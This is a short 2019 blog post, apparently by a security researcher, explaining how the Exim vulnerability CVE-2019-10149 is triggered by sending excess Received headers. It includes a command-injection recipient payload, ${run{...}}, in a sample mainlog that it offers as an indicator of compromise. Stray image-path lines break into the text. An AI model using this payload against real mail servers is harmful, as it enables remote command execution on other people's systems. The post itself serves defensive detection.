wtorek, 11 czerwca 2019

(ENG) Emacs through sendmail - exploiting CVE-2019-10149

Tekst wyjątkowo jest w języku angielskim

  Before you start reading, please read article on lwn, if you have not already done so. The 24-hour mark described within the article passed long time ago, and still no furtherdetails were published. As stated, vulnerability is trivially exploitable, but discovering it in actual code, not necessary. I believe that because of it's simplicity, actual exploit is in active use, and indicators of compromise are unknown for system administrators. This leads to situation where after patching your services, you don't know whatever your systems have been compromised or not. These are reasons why I decided to post some further details about this vulnerability.

  As it appears from the published information, to trigger bug we need to set process_recipients variable to some other value than RECIP_ACCEPT. It can be done earlier in the deliver_message() function by following code:
5716 else if (received_count > received_headers_max)
5717   process_recipients = RECIP_FAIL_LOOP;

So it's only matter of sending excess amount of Received headers.
# exim -bP received_headers_max
received_headers_max = 30

Bringing it all together, the successful attack leaves traces that looks similar to those below, from my exim's mainlog:
1hbNcz-0001gv-Cm <= adrb@localhost H=localhost [::1] P=esmtp S=1732
1hbNcz-0001gv-Cm ** ${run{\x2fbin\x2ftouch\x20\x2ftmp\x2ftest}}@localhost: Too many "Received" headers - suspected mail loop
1hbNdK-0001l5-89 <= <>R=1hbNcz-0001gv-Cm U=Debian-exim P=local S=2969
1hbNcz-0001gv-CmCompleted
1hbNdK-0001l5-89 => adrb R=local_user T=mail_spool
1hbNdK-0001l5-89 Completed

Update: You can read about thatvulnerability in full details here